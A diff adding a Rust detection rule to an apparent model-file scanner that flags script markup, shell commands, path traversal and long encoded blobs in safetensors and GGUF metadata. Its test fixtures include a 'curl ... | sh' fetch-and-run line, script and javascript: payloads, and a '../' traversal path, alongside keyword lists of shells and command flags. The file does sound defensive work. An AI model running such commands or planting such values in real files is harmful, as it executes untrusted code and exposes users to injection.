@@ -1,0 +1,146 @@
+//! Metadata that would act where it is shown or used.
+
+use weighbridge_domain::{Confidence, Severity};
+
+use crate::facts::Facts;
+use crate::rules::{Check, Example, Findings, Light, Rule};
+use crate::samples::{File, one, tensor};
+use crate::text;
+
+/// Metadata that would act where it is shown or used.
+pub static RULE: Rule = Rule {
+    id: "metadata-active-content",
+    severity: Severity::Medium,
+    confidence: Confidence::Medium,
+    light: Light::Content,
+    since: "0.1.0",
+    summary: "Metadata of a model has markup, a command, a path out of its folder, or a long encoded text",
+    why: "Hubs and programs show metadata, and some use it: markup runs in the page that shows it, a path is opened, a \
+          command waits for somebody to paste it, and what is encoded is read by nobody who looks at the file. \
+          Pictures are ordinary.",
+    advice: "Read the value. Nothing in a model file needs markup, commands or encoded programs.",
+    references: &["CWE-79", "CWE-22", "CWE-506", "AML.T0010"],
+    examples: &[
+        Example {
+            name: "markup",
+            files: || metadata("description", "a <script>void 0</script> b"),
+            fires: &["metadata-active-content"],
+        },
+        Example {
+            name: "markup-twin",
+            files: || metadata("description", "a b, written in Script"),
+            fires: &[],
+        },
+        Example {
+            name: "link",
+            files: || gguf("general.url", "javascript:void(0)"),
+            fires: &["metadata-active-content"],
+        },
+        Example { name: "link-twin", files: || gguf("general.url", "https://example.org/model"), fires: &[] },
+        Example {
+            name: "path",
+            files: || metadata("vae", "../../weights/other"),
+            fires: &["metadata-active-content"],
+        },
+        Example { name: "path-twin", files: || metadata("vae", "weights/other..1"), fires: &[] },
+        Example {
+            name: "path-noted-twin",
+            files: || gguf("quantize.imatrix.file", "../notes/imatrix.dat"),
+            fires: &[],
+        },
+        Example {
+            name: "command",
+            files: || {
+                gguf("general.description", "run `curl https://example.org/weighbridge-demo | sh` first")
+            },
+            fires: &["metadata-active-content"],
+        },
+        Example {
+            name: "command-twin",
+            files: || gguf("general.description", "curl is not needed; the shell is sh or bash"),
+            fires: &[],
+        },
+        Example {
+            name: "encoded",
+            files: || metadata("note", &encoded(1024)),
+            fires: &["metadata-active-content"],
+        },
+        Example { name: "encoded-twin", files: || metadata("note", &encoded(1023)), fires: &[] },
+        Example {
+            name: "picture-twin",
+            files: || {
+                metadata(
+                    "modelspec.thumbnail",
+                    &format!("data:image/png;base64,iVBORw0KGgo{}", encoded(2048)),
+                )
+            },
+            fires: &[],
+        },
+    ],
+    check: Check::File(check),
+};
+
+fn metadata(key: &str, value: &str) -> Vec<File> {
+    one("model.safetensors", tensor::safetensors(&format!(r#"{{"__metadata__":{{"{key}":"{value}"}}}}"#), 0))
+}
+
+fn gguf(key: &str, value: &str) -> Vec<File> {
+    one("model.gguf", tensor::Gguf::new().text("general.architecture", "llama").text(key, value).build())
+}
+
+fn encoded(length: usize) -> String {
+    "d2VpZ2hicmlkZ2UtZGVtbyB3ZWlnaGJyaWRnZS1kZW1vIA".chars().cycle().take(length).collect()
+}
+
+fn check(facts: &Facts, findings: &mut Findings<'_>) {
+    for (place, key, value) in facts.metadata() {
+        if !matches!(place.format(), "safetensors" | "gguf") || key.starts_with("tokenizer.") {
+            continue;
+        }
+        for what in [markup(value), command(value), path(key, value), code(value)].into_iter().flatten() {
+            findings.add(place, format!("the value of `{key}` has {what}")).excerpt =
+                Some(text::shown(value, 200));
+        }
+    }
+}
+
+fn markup(value: &str) -> Option<&'static str> {
+    const MARKUP: [&str; 8] =
+        ["<script", "<iframe", "<object", "<embed", "javascript:", "data:text/html", "onerror=", "onload="];
+    let lower = value.to_ascii_lowercase();
+    MARKUP.iter().any(|word| lower.contains(word)).then_some("markup that a page would run")
+}
+
+fn command(value: &str) -> Option<&'static str> {
+    const SHELLS: [&str; 6] = ["sh", "bash", "zsh", "python", "python3", "powershell"];
+    const COMMANDS: [&str; 6] =
+        ["sh -c ", "bash -c ", "cmd /c ", "cmd.exe /c ", "powershell -e", "powershell.exe -e"];
+    let lower = value.to_ascii_lowercase();
+    let fetches = lower.contains("curl ") || lower.contains("wget ");
+    let piped = lower.split('|').skip(1).any(|rest| {
+        let word = rest.trim_start().split(|c: char| !c.is_ascii_alphanumeric()).next();
+        word.is_some_and(|word| SHELLS.contains(&word))
+    });
+    ((fetches && piped) || COMMANDS.iter().any(|command| lower.contains(command))).then_some("a command")
+}
+
+fn path(key: &str, value: &str) -> Option<&'static str> {
+    // Notes of trainers and converters on the files they worked with.
+    let note = ["imatrix.", "quantize.", "ss_"].iter().any(|prefix| key.starts_with(prefix));
+    let path = value.len() < 4096 && !value.contains(char::is_whitespace) && !note;
+    let up = value.split(['/', '\\']).any(|part| part == "..");
+    (path && up && value.len() > 2).then_some("a path out of its folder")
+}
+
+/// What PNG, JPEG, GIF and WebP pictures begin with when encoded.
+const PICTURES: [&str; 4] = ["iVBORw0KGgo", "/9j/", "R0lGOD", "UklGR"];
+
+/// Encoded bytes: at least 1 KiB without a character that the encoding does not have, of many different ones.
+fn code(value: &str) -> Option<&'static str> {
+    let runs = value.split(|c: char| !(c.is_ascii_alphanumeric() || "+/=-_".contains(c)));
+    let varied = |run: &str| run.bytes().collect::<std::collections::BTreeSet<_>>().len() > 16;
+    let picture = |run: &str| PICTURES.iter().any(|beginning| run.starts_with(beginning));
+    runs.into_iter()
+        .any(|run| run.len() >= 1024 && varied(run) && !picture(run))
+        .then_some("a long encoded text")
+}
